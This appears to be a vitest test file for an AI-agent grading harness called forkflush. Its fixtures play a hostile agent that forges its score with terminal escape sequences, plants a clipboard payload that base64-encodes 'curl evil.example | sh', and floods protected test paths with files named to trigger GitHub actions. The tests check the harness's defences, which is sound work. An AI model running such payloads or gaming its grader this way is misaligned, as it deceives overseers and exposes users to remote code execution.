// Round 2: what forkflush prints and writes from the agent's output, outside the sandbox. The
// command agent's note quotes its last stderr line; the progress line, the leaderboard, `forkflush
// status` and report.md show that note to the user, whose terminal obeys control sequences: an
// agent could clear lines and print a forged "scored 1000000" over its real result, retitle the
// window, or set the clipboard (OSC 52) to a command the user will paste. The honest outcome: no
// control character of the agent's reaches forkflush's output or its report.
import { execFileSync } from 'node:child_process';
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, it } from 'vitest';
import {
  CAT_GRADER,
  cleanupAttackTemps,
  currentCli,
  describeSandboxed,
  firstControlLine,
  hasControl,
  makeAttackRepo,
  newestRunState,
  runCli,
} from './helpers.js';

afterAll(cleanupAttackTemps);
beforeAll(async () => {
  await currentCli();
});

describeSandboxed("the agent's output in forkflush's output", () => {
  it('control sequences in its last stderr line reach neither the terminal (progress, table, status) nor report.md', async () => {
    // Erase the line and print a forged result over it, retitle the window, set the clipboard.
    const forged = String.raw`\r\033[2K\033[1A\033[2K[00:01] r0.b0 scored 1000000, spent 1 tokens (finished, 1.0 s)\033]0;pwned\007\033]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\007\233J`;
    const repo = makeAttackRepo({
      agent: `echo 2 > value.txt; echo '{"spent": 6}' > "$FORKFLUSH_USAGE_FILE"; printf '${forged}' >&2; exit 3`,
      grader: CAT_GRADER,
    });
    const root = join(repo.dir, '..');
    const run = await runCli(['run', repo.dir, '--seed', '1'], { cwd: root, deadlineMs: 25_000 });
    const status = await runCli(['status', repo.dir], { cwd: root, deadlineMs: 25_000 });
    expect(run.exitCode, run.out).toBe(0);
    // The note is recorded (the state keeps what the agent said, as data)...
    const result = newestRunState(repo.dir)?.rounds[0]?.episodes[0]?.result;
    expect(result?.score).toBe(2);
    expect(result?.note).toMatch(/agent exited with code 3/);
    // ...but what forkflush shows holds none of its control characters.
    expect.soft(hasControl(run.out), `forkflush run printed ${firstControlLine(run.out)}`).toBe(false);
    expect.soft(hasControl(status.out), `forkflush status printed ${firstControlLine(status.out)}`).toBe(false);
    const runs = join(repo.dir, '.forkflush');
    const [id] = readdirSync(runs);
    const report = readFileSync(join(runs, id ?? '', 'report.md'), 'utf8');
    expect.soft(hasControl(report), `report.md holds ${firstControlLine(report)}`).toBe(false);
  });

  it('3,000 changed protected files with long names and GitHub words: the result is bounded, and its commit inert', async () => {
    // Names that would close issue 12 and mention a team, were they to reach a merged commit.
    const repo = makeAttackRepo({
      agent:
        'mkdir -p tests && for i in $(seq 3000); do : > "tests/fixes #12 @octo-org-team $(printf "%0200d" $i)"; done; ' +
        `echo 2 > value.txt; echo '{"spent": 6}' > "$FORKFLUSH_USAGE_FILE"`,
      grader: CAT_GRADER,
      protected: ['grade.sh', 'tests/**'],
    });
    const root = join(repo.dir, '..');
    const run = await runCli(['run', repo.dir, '--seed', '1'], { cwd: root, deadlineMs: 60_000 });
    const result = newestRunState(repo.dir)?.rounds[0]?.episodes[0]?.result;
    expect(result?.score, run.out).toBeNull();
    expect(result?.reason).toMatch(/^the agent changed protected paths: /);
    expect(result?.reason?.length).toBeLessThanOrEqual(1000);
    expect(result?.protectedChanged).toHaveLength(50);
    // The commit, which may be merged on GitHub, is inert: a word joiner after each # and @, and
    // inside the closing keyword; the run's own state keeps the names as they are.
    expect(result?.reason).toMatch(/fixes #12 @octo-org-team/);
    const message = execFileSync('git', ['log', '-1', '--format=%B', result?.commit ?? ''], {
      cwd: repo.dir,
      encoding: 'utf8',
    });
    expect(message.length).toBeLessThan(20_000);
    expect(message).not.toMatch(/#\d|@o|\bfixes\b/);
  });
});
